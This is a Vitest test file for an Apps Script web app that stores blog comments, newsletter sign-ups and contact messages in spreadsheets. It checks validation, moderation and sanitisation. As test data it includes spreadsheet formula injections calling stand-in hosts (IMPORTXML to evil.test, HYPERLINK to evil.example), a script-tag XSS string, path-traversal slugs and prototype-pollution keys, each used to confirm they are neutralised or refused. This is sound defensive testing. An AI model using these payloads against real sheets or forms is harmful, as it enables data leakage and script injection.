import { beforeEach, describe, expect, it } from "vitest";
import type { SubmissionError } from "@marketing/contracts";
import {
  ATTRIBUTION_FIELDS,
  CONSENT_MAX_LENGTHS,
  FIELD_MAX_LENGTHS,
  validateSubmission,
} from "@marketing/contracts";
import commentCases from "@marketing/contracts/comment-rules.cases.json";
import { loadAppsScript } from "./apps-script";

let script: ReturnType<typeof loadAppsScript>;
beforeEach(() => {
  script = loadAppsScript({ properties: { DOUBLE_OPT_IN: "off" } });
});
const post = (body: unknown) => script.post(body);
const rowsOf = (name: keyof typeof script.sheets) => script.sheets[name].rows;
const comment = (overrides: Record<string, string> = {}) => ({
  type: "blog_comment",
  postSlug: "energy-audit-data-first",
  id: `cmt-${Math.random().toString(36).slice(2)}`,
  name: "Grace",
  email: "grace@example.com",
  message: "Thanks.",
  date: "2025-03-14T10:00:00.000Z",
  parentId: "",
  ...overrides,
});
const noRows = () => Object.values(script.sheets).every((sheet) => sheet.rows.length === 0);

/** Comments outside the contracts' rule (comment-rules.cases.json and the review's own). */
const CRAFTED: Record<string, string>[] = [
  ...commentCases.invalidSlugs.filter(Boolean).map((postSlug) => ({ postSlug })),
  ...commentCases.invalidIds
    .filter(Boolean)
    .flatMap((id): Record<string, string>[] => [{ id }, { parentId: id }]),
  { postSlug: "../../x<script>", id: "<b>\u0000\u202e" },
  { date: "2099-01-01 <b>" },
  { date: "2025-03-14T10:00:00.000Z\u202e" },
];

describe("the Apps Script web app", () => {
  it("uses the contracts' FIELD_MAX_LENGTHS, CONSENT_MAX_LENGTHS and ATTRIBUTION_FIELDS", () => {
    expect(script.global("MAX")).toEqual({ ...FIELD_MAX_LENGTHS });
    expect(script.global("CONSENT_MAX")).toEqual({ ...CONSENT_MAX_LENGTHS });
    expect(script.global("ATTRIBUTION")).toEqual([...ATTRIBUTION_FIELDS]);
  });

  it("writes a comment as A–H with D blank and a ticked checkbox; the email only privately", () => {
    script.properties.MODERATION = "off";
    const body = comment({ name: '=IMPORTXML("https://evil.test","//a")', message: "+1 -- @all" });
    expect(post(body)).toEqual({ ok: true, id: body.id, approved: true });
    expect(rowsOf("Comments")[0]).toEqual([
      body.postSlug,
      body.id,
      `'${body.name}`,
      "",
      "'+1 -- @all",
      expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
      "",
      true,
    ]);
    expect(JSON.stringify(rowsOf("Comments"))).not.toContain("grace@example.com");
    expect(rowsOf("CommentEmails")[0]?.slice(0, 2)).toEqual([body.id, "grace@example.com"]);
  });

  it("holds comments by default, and answers a retried id without a second row", () => {
    const body = comment();
    expect(post(body)).toEqual({ ok: true, id: body.id, approved: false });
    expect(post(body)).toEqual({ ok: true, id: body.id, approved: false });
    expect(rowsOf("Comments")).toHaveLength(1);
    expect(rowsOf("Comments")[0]?.[7]).toBe(false);
    script.properties.MODERATION = "on";
    expect(post(comment()).approved).toBe(false);
    script.properties.MODERATION = "off";
    expect(post(comment()).approved).toBe(true);
  });

  it.each(["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf"])(
    "answers a type of %j with an error body, not a crash",
    (type) => {
      expect(post({ ...comment(), type }).error.code).toBe(400);
      expect(script.logged).toEqual([]);
      expect(noRows()).toBe(true);
    },
  );

  it("answers a body that is not JSON, or no body at all, with an error", () => {
    expect(JSON.parse(script.doPost({ postData: { contents: "{" } }).content).error.code).toBe(400);
    expect(JSON.parse(script.doPost({}).content).error.code).toBe(500);
  });

  it.each([
    ["a message too long", comment({ message: "m".repeat(FIELD_MAX_LENGTHS.message + 1) })],
    ["a name that is not a string", { ...comment(), name: ["Grace"] }],
    ["a blank name", comment({ name: "  " })],
    ["a bad email", comment({ email: "grace@" })],
    ["a bad slug", comment({ postSlug: "../x" })],
    ["an unknown type", { ...comment(), type: "other" }],
    ["an array", []],
  ])("refuses %s with an error body and writes nothing", (_label, body) => {
    expect(post(body).error.code).toBe(400);
    expect(noRows()).toBe(true);
  });

  it.each(CRAFTED)(
    "refuses %j with the contracts' message, as the other endpoints do",
    (overrides) => {
      const body = comment(overrides);
      let expected = "";
      try {
        validateSubmission("comment", JSON.stringify(body));
      } catch (error) {
        expected = (error as SubmissionError).message;
      }
      expect(expected).not.toBe("");
      expect(post(body).error).toEqual({ code: 400, message: expected });
      expect(noRows()).toBe(true);
    },
  );

  it("writes its own time under a comment, never the date posted", () => {
    for (const date of ["2099-01-01T00:00:00.000Z", "2000-01-01T00:00:00Z", ""])
      expect(post(comment({ date })).ok).toBe(true);
    const dates = rowsOf("Comments").map((row) => row[5]);
    expect(dates).toEqual(Array(3).fill(new Date(script.state.clock).toISOString()));
    expect(JSON.stringify(rowsOf("Comments"))).not.toMatch(/2099|2000-01-01/);
  });

  it("keeps newsletter addresses and contact messages in the private spreadsheet", () => {
    expect(post({ type: "newsletter_subscription", email: "=cmd@example.com" })).toEqual({
      result: "success",
    });
    // The answer never counts the subscribers (no row number).
    expect(post({ type: "newsletter_subscription", email: "bob@example.com" })).toEqual({
      result: "success",
    });
    expect(rowsOf("Newsletter")[0]?.[0]).toBe("'=cmd@example.com");
    expect(
      post({ type: "contact_form", name: "Ada", email: "ada@example.com", message: "Hi" }),
    ).toEqual({ ok: true });
    expect(rowsOf("Contact")[0]?.slice(0, 4)).toEqual(["Ada", "ada@example.com", "", "Hi"]);
    expect(rowsOf("Comments")).toHaveLength(0);
  });

  it("refuses an email with a control character or an override, and cleans names and messages", () => {
    for (const email of ["ada\u0000@example.com", "ada\u202e@example.com", "<ada@example.com>"])
      expect(post({ type: "newsletter_subscription", email }).error.code).toBe(400);
    const body = {
      type: "contact_form",
      name: "Ada\u0000\u0007 Love\u202elace",
      email: "ada@example.com",
      company: "\u001b[2JACME",
      message: "Hello\r\nthere\u2066",
    };
    expect(post(body)).toEqual({ ok: true });
    expect(rowsOf("Contact")[0]?.slice(0, 4)).toEqual([
      "Ada Lovelace",
      "ada@example.com",
      "[2JACME",
      "Hello\nthere",
    ]);
    expect(rowsOf("Newsletter")).toHaveLength(0);
  });

  it("writes where each post came from after its own columns, cleaned, never in the public sheet", () => {
    const from = {
      page: "https://www.example.com/fr/blog",
      referrer: "https://news.example/",
      lang: "fr",
      utm_source: '=HYPERLINK("https://evil.example")',
      utm_medium: "email",
      utm_campaign: "spring\u0000\u202e",
      utm_term: "",
      utm_content: "<script>alert(1)</script>",
    };
    const columns = [
      "https://www.example.com/fr/blog",
      "https://news.example/",
      "fr",
      `'=HYPERLINK("https://evil.example")`,
      "email",
      "spring",
      "",
      "<script>alert(1)</script>",
    ];
    post({ type: "newsletter_subscription", email: "ada@example.com", ...from });
    expect(rowsOf("Newsletter")[0]?.slice(2, 10)).toEqual(columns);
    post({ type: "contact_form", name: "Ada", email: "ada@example.com", message: "Hi", ...from });
    expect(rowsOf("Contact")[0]?.slice(5, 13)).toEqual(columns);
    expect(post(comment({ ...from })).ok).toBe(true);
    expect(rowsOf("CommentEmails")[0]?.slice(3, 11)).toEqual(columns);
    expect(JSON.stringify(rowsOf("Comments"))).not.toContain("news.example");
    // A post without them (an older embed) gets blank columns; an overlong one is refused.
    post({ type: "newsletter_subscription", email: "bob@example.com" });
    expect(rowsOf("Newsletter")[1]?.slice(2, 13)).toEqual(Array(11).fill(""));
    const refused = post({
      type: "newsletter_subscription",
      email: "eve@example.com",
      utm_source: "x".repeat(FIELD_MAX_LENGTHS.utm_source + 1),
    });
    expect(refused.error).toEqual({ code: 400, message: "Bad field: utm_source" });
  });

  it("writes the consent box's record after where the post came from; refuses another shape", () => {
    const consent = {
      given: true,
      at: "2025-03-14T10:00:00.000Z",
      text: "=I agree to the processing of my details as described in the privacy policy.\u202e",
    };
    const columns = [
      "yes",
      consent.at,
      "'=I agree to the processing of my details as described in the privacy policy.",
    ];
    post({ type: "newsletter_subscription", email: "ada@example.com", consent });
    expect(rowsOf("Newsletter")[0]?.slice(10, 13)).toEqual(columns);
    post({ type: "contact_form", name: "Ada", email: "ada@example.com", message: "Hi", consent });
    expect(rowsOf("Contact")[0]?.slice(13)).toEqual(columns);
    expect(post(comment({ consent } as never)).ok).toBe(true);
    expect(rowsOf("CommentEmails")[0]?.slice(11, 14)).toEqual(columns);
    expect(JSON.stringify(rowsOf("Comments"))).not.toContain("I agree");
    post({
      type: "newsletter_subscription",
      email: "bob@example.com",
      consent: { ...consent, given: false },
    });
    expect(rowsOf("Newsletter")[1]?.[10]).toBe("no");
    for (const bad of [
      "yes",
      { ...consent, given: "true" },
      { ...consent, at: "yesterday" },
      { ...consent, at: "2025-03-14T10:00:00.000Z\u202e<b>" },
      { ...consent, at: "Fri, 14 Mar 2025 10:00:00 GMT" },
      { ...consent, text: "" },
      { ...consent, text: "x".repeat(CONSENT_MAX_LENGTHS.text + 1) },
    ]) {
      const refused = post({
        type: "newsletter_subscription",
        email: "eve@example.com",
        consent: bad,
      });
      expect(refused.error).toEqual({ code: 400, message: "Bad field: consent" });
    }
    expect(rowsOf("Newsletter")).toHaveLength(2);
  });

  it("answers an error, not a crash, when the private spreadsheet is missing", () => {
    delete script.properties.PRIVATE_SPREADSHEET_ID;
    expect(post(comment()).error.code).toBe(500);
    expect(script.logged).toHaveLength(1);
  });
});
